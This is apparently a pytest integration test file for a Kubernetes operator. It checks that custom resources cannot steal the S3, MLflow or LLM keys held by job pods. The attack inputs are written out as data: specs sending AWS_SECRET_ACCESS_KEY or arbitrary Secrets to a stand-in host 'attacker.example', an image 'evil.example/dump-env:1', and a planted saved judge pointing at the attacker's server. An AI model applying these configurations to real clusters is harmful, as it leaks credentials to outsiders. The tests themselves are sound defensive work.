"""Attacks on the keys a job pod holds, each from team-a's custom resource (issue 17 item 2).

The real operator against the API emulator (``tenancy.shared_cluster``); the saved-judge
attack also runs the pipeline's judge loading against two real HTTP servers on 127.0.0.1
(``chaos_llm.py`` without faults): the attacker's and the install's LLM server.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
from pathlib import Path

import pytest
from tenancy import ATTACKER, Cluster, env_of

from zhufu.pipeline.judge import JudgeState, load_judge
from zhufu.pipeline.judge.server import JUDGE_SERVER_ENV

pytestmark = [pytest.mark.integration, pytest.mark.asyncio(loop_scope="module")]

ATTACKER_URL = "http://attacker.example:8000/v1"


async def test_llm_key_env_cannot_name_the_s3_secret_key(cluster: Cluster) -> None:
    """``llm.apiKeyEnv: AWS_SECRET_ACCESS_KEY`` plus the attacker's server would send the
    S3 key as the Bearer token."""
    msg = await cluster.refused("CurationJob", "steal-s3-key", {"llm": {
        "backend": "openai", "model": "m", "baseUrl": ATTACKER_URL,
        "apiKeyEnv": "AWS_SECRET_ACCESS_KEY"}})
    assert msg.startswith("spec.llm.apiKeyEnv: 'AWS_SECRET_ACCESS_KEY' is not allowed"), msg


@pytest.mark.parametrize("secret_type", ["Opaque", "kubernetes.io/service-account-token"])
async def test_llm_key_secret_must_opt_in(cluster: Cluster, secret_type: str) -> None:
    """``llmApiKeySecret`` naming any Secret of the namespace (a database password, an old
    ServiceAccount token) would mount it and send it to the resource's LLM server."""
    name = f"not-a-key-{len(cluster.emu.objects('secrets', ATTACKER))}"
    cluster.emu.create("secrets", {"metadata": {"name": name, "namespace": ATTACKER},
                                   "type": secret_type, "stringData": {"token": "t0p-s3cret"}})
    msg = await cluster.refused("JudgeTraining", f"steal-{name}", {
        "llm": {"backend": "openai", "model": "m", "baseUrl": ATTACKER_URL},
        "llmApiKeySecret": {"name": name, "key": "token"}})
    assert msg.startswith(f"spec.llmApiKeySecret.name: Secret {name!r} is not an LLM key "
                          "Secret"), msg
    assert "zhufu.dev/llm-key=true" in msg


async def test_opted_in_key_secret_is_mounted(cluster: Cluster) -> None:
    """The same resource with a Secret that opted in runs (the check is not a blanket no)."""
    cluster.emu.create("secrets", {"metadata": {"name": "team-a-llm", "namespace": ATTACKER,
                                                "annotations": {"zhufu.dev/llm-key": "true"}},
                                   "stringData": {"api-key": "k"}})
    job = await cluster.job("JudgeTraining", "own-key", {
        "llm": {"backend": "openai", "model": "m", "baseUrl": "http://llm:8000/v1"},
        "llmApiKeySecret": {"name": "team-a-llm"}})
    volumes = job["spec"]["template"]["spec"]["volumes"]
    assert {"team-a-llm"} == {v["secret"]["secretName"] for v in volumes if "secret" in v}


async def test_own_image_is_refused(cluster: Cluster) -> None:
    """``spec.image`` of the attacker's choosing runs any code with the pod's S3 and MLflow
    credentials."""
    msg = await cluster.refused("GRPORun", "own-image", {"image": "evil.example/dump-env:1"})
    assert msg.startswith("spec.image: 'evil.example/dump-env:1' is not an allowed image; "
                          "this install runs only ghcr.io/zhufu-dev/zhufu-trainer"), msg


async def test_trainer_image_with_another_tag_runs(cluster: Cluster) -> None:
    job = await cluster.job("GRPORun", "pinned-image", {
        "image": "ghcr.io/zhufu-dev/zhufu-trainer:0.1.0@sha256:" + "a" * 64})
    assert job["spec"]["template"]["spec"]["containers"][0]["image"].endswith("a" * 64)


async def test_job_pods_get_the_installs_judge_server(cluster: Cluster) -> None:
    """A GRPORun's pod is told which LLM server saved judges talk to (the operator's
    setting), whatever judge it loads."""
    job = await cluster.job("GRPORun", "judge-server", {
        "rewards": [{"name": "judge", "model": "models:/zhufu-judge@champion"}]})
    assert env_of(job)[JUDGE_SERVER_ENV] == "http://zhufu-llm.zhufu.svc:8000/v1"


async def test_saved_judge_cannot_choose_its_llm_server(tmp_path: Path, chaos_llm,
                                                        monkeypatch: pytest.MonkeyPatch
                                                        ) -> None:
    """A judge saved (registered) by the attacker names the attacker's server; a GRPORun
    loading it in a pod (ZHUFU_JUDGE_SERVER set by the operator) must send its key only to
    the install's server, and with no server configured refuse the judge."""
    attacker, install = chaos_llm(rate=0.0, seed=1), chaos_llm(rate=0.0, seed=2)
    planted = JudgeState(backend=f"openai:judge-model@{attacker.url}", name="planted")
    path = planted.save(tmp_path / "judge.json")
    key = "sk-PLANTED-grpo-key"
    monkeypatch.setenv("OPENAI_API_KEY", key)
    monkeypatch.setenv(JUDGE_SERVER_ENV, install.url)
    judge = load_judge(str(path))
    try:
        await judge.score_many([("生日祝福", "祝你生日快乐，天天开心！")])
    finally:
        await judge.aclose()
    assert attacker.records() == [], "the saved judge reached its own server"
    sent = install.records()
    assert sent and {r["auth_sha256"] for r in sent} == {
        hashlib.sha256(f"Bearer {key}".encode()).hexdigest()}
    monkeypatch.setenv(JUDGE_SERVER_ENV, "")
    with pytest.raises(ValueError, match="a saved judge cannot choose one"):
        load_judge(str(path))
    await asyncio.sleep(0)
    assert json.loads(path.read_text())["backend"].endswith(attacker.url)
